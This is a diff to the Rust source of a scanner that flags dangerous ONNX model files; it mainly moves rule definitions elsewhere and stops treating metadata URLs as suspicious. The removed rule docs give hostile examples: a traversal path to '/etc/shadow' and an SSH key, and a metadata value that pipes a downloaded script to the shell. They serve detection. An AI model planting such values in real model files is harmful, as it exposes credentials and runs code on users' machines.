@@ -5,104 +5,19 @@
 //! domains no standard runtime implements (custom ops ship native code),
 //! nested graphs (walked to a depth limit) and metadata carrying code.
 
-use super::content::{location_problem, suspicious_text};
-use super::protobuf::{settle, Reader, Span, Stop, Walk};
 use super::GraphLimits;
 use crate::finding::{abbreviate, Location};
-use crate::rule::Rule;
+use crate::formats::protobuf::{settle, Reader, Span, Stop, Walk};
+use crate::formats::text::{location_problem, suspicious_text, A_URL};
+
+pub use crate::formats::graphs::rules::{
+    ONNX_CUSTOM_OP_DOMAIN, ONNX_EXTERNAL_DATA_PATH, ONNX_MALFORMED, ONNX_SUSPICIOUS_METADATA,
+};
 use crate::scan::ScanCtx;
 use crate::severity::Severity;
 use crate::source::{ByteSource, ReadError};
 use serde_json::json;
 use std::collections::{BTreeMap, BTreeSet};
-
-/// The model is not valid protobuf, or not a valid `ModelProto`.
-pub static ONNX_MALFORMED: Rule = Rule {
-    id: "onnx-malformed",
-    severity: Severity::Medium,
-    summary: "The ONNX model is not a well-formed ModelProto, so part of it was not analysed.",
-    docs: r#"
-## Why it matters
-A model that does not parse cannot be vouched for: runtimes with lenient parsers may
-still load a prefix of it, and a parser differential between the scanner and the
-runtime is a classic way to hide content.
-
-## What to do
-Re-export the model with the official `onnx` package and check it with
-`onnx.checker.check_model`.
-"#,
-};
-
-/// An initializer's external data location escapes the model's folder.
-pub static ONNX_EXTERNAL_DATA_PATH: Rule = Rule {
-    id: "onnx-external-data-path",
-    severity: Severity::High,
-    summary: "A tensor's external_data location is absolute or climbs out of the model's folder.",
-    docs: r#"
-## Why it matters
-ONNX tensors may keep their bytes in a separate file named by the `location` entry of
-`external_data`, resolved relative to the model's folder. A location such as
-`../../etc/passwd` or `/home/user/.ssh/id_rsa` makes the runtime read an arbitrary
-file of the machine that loads the model and treat it as weights (CVE-2022-25882,
-CVE-2024-5187 for the matching write path in `onnx.hub`). Outputs computed from
-those weights can leak the file's content.
-
-## Example
-An initializer with `data_location: EXTERNAL` and
-`external_data { key: "location" value: "../../../../etc/shadow" }`.
-
-## What to do
-Do not load the model. Legitimate models name plain files next to the model
-(`model.onnx.data`, `weights.bin`).
-
-## References
-- ONNX external data: https://onnx.ai/onnx/repo-docs/ExternalData.html
-- CVE-2022-25882 (directory traversal in external data)
-"#,
-};
-
-/// A node uses an operator from a non-standard domain.
-pub static ONNX_CUSTOM_OP_DOMAIN: Rule = Rule {
-    id: "onnx-custom-op-domain",
-    severity: Severity::Medium,
-    summary: "The model uses operators outside the standard ONNX domains; running it needs custom operator code.",
-    docs: r#"
-## Why it matters
-Standard runtimes implement the `ai.onnx` (empty domain), `ai.onnx.ml` and training
-domains. Any other domain is a custom operator: the runtime needs a native library
-registered for it (`SessionOptions.register_custom_ops_library`), and that library
-runs with the full rights of the process. A model that asks for custom ops asks you
-to install and trust code from its author. `com.microsoft` contrib operators ship
-with ONNX Runtime itself and are reported at low severity.
-
-## Example
-A node with `domain: "com.example.ops"` and `op_type: "Decrypt"`.
-
-## What to do
-Find out which library implements the domain and where it comes from; only load
-the model with libraries you already trust.
-"#,
-};
-
-/// Metadata or doc strings hold code, pickles or terminal escapes.
-pub static ONNX_SUSPICIOUS_METADATA: Rule = Rule {
-    id: "onnx-suspicious-metadata",
-    severity: Severity::Medium,
-    summary: "Model metadata holds code, a serialized pickle or terminal escape sequences.",
-    docs: r#"
-## Why it matters
-`metadata_props` and `doc_string` are free text that tools display and that
-pipelines sometimes interpret (a preprocessing snippet, a pickled tokenizer). Code,
-pickles or shell commands there are a payload waiting for a careless consumer;
-ANSI escape sequences rewrite what a terminal shows.
-
-## Example
-`metadata_props { key: "preprocess" value: "__import__('os').system('curl x|sh')" }`
-
-## What to do
-Read the value. Never `eval`, `exec` or unpickle model metadata.
-"#,
-};
 
 /// Op domains every standard runtime implements.
 const STANDARD_DOMAINS: &[&str] = &[
@@ -157,14 +72,13 @@ pub fn scan(src: &mut dyn ByteSource, ctx: &mut ScanCtx<'_>) -> Result<(), ReadE
 }
 
 impl Scanner<'_, '_, '_> {
-    fn next(&mut self, cursor: &mut u64, end: u64) -> Walk<Option<super::protobuf::Field>> {
-        if self.r.fields_read >= self.limits.max_proto_fields {
-            let max = self.limits.max_proto_fields;
-            self.ctx
-                .limit_hit("graphs.max_proto_fields", max, &format!("at byte {cursor}"));
-            return Err(Stop::Limit);
-        }
-        Ok(self.r.next_field(cursor, end)?)
+    fn next(
+        &mut self,
+        cursor: &mut u64,
+        end: u64,
+    ) -> Walk<Option<crate::formats::protobuf::Field>> {
+        self.r
+            .next_bounded(cursor, end, self.limits.max_proto_fields, self.ctx)
     }
 
     fn text(&mut self, span: Span) -> Walk<String> {
@@ -185,7 +99,7 @@ impl Scanner<'_, '_, '_> {
         let mut unknown: Vec<u32> = Vec::new();
         while let Some(field) = self.next(&mut cursor, whole.end)? {
             match (field.number, field.value) {
-                (1, super::protobuf::Value::Varint(v)) => ir_version = Some(v),
+                (1, crate::formats::protobuf::Value::Varint(v)) => ir_version = Some(v),
                 (2, _) if field.span().is_some() => producer.0 = self.string_field(&field)?,
                 (3, _) if field.span().is_some() => producer.1 = self.string_field(&field)?,
                 (6, _) => doc = field.span(),
@@ -263,14 +177,14 @@ impl Scanner<'_, '_, '_> {
         Ok(())
     }
 
-    fn span_field(&self, field: &super::protobuf::Field) -> Walk<Span> {
+    fn span_field(&self, field: &crate::formats::protobuf::Field) -> Walk<Span> {
         field.span().ok_or(Stop::Malformed(
             field.offset,
             "wrong wire type for a message field",
         ))
     }
 
-    fn string_field(&mut self, field: &super::protobuf::Field) -> Walk<String> {
+    fn string_field(&mut self, field: &crate::formats::protobuf::Field) -> Walk<String> {
         let span = self.span_field(field)?;
         self.text(span)
     }
@@ -514,13 +428,14 @@ impl Scanner<'_, '_, '_> {
 
     fn metadata_entry(&mut self, path: &str, span: Span) -> Walk {
         let (key, value) = self.entry(span)?;
-        if let Some(why) = suspicious_text(&value) {
+        // Licence and homepage links are ordinary in ONNX metadata: code counts, a URL does not.
+        if let Some(why) = suspicious_text(&value).filter(|why| *why != A_URL) {
             let f = self.ctx.finding(
                 &ONNX_SUSPICIOUS_METADATA,
                 Location::GraphNode {
                     path: format!("{path}['{}']", abbreviate(&key, 80)),
                 },
-                format!("metadata value of `{}` {why}", abbreviate(&key, 80)),
+                format!("metadata value of `{}` holds {why}", abbreviate(&key, 80)),
             );
             self.ctx
                 .push(f.with_evidence(abbreviate(&value, 200)).with_help(
@@ -532,11 +447,11 @@ impl Scanner<'_, '_, '_> {
 
     fn inspect_text(&mut self, path: &str, span: Span) -> Walk {
         let value = self.text(span)?;
-        if let Some(why) = suspicious_text(&value) {
+        if let Some(why) = suspicious_text(&value).filter(|why| *why != A_URL) {
             let f = self.ctx.finding(
                 &ONNX_SUSPICIOUS_METADATA,
                 Location::GraphNode { path: path.into() },
-                format!("{path} {why}"),
+                format!("{path} holds {why}"),
             );
             self.ctx.push(f.with_evidence(abbreviate(&value, 200)));
         }
@@ -590,3 +505,6 @@ impl Scanner<'_, '_, '_> {
         }
     }
 }
+
+#[cfg(test)]
+mod tests;
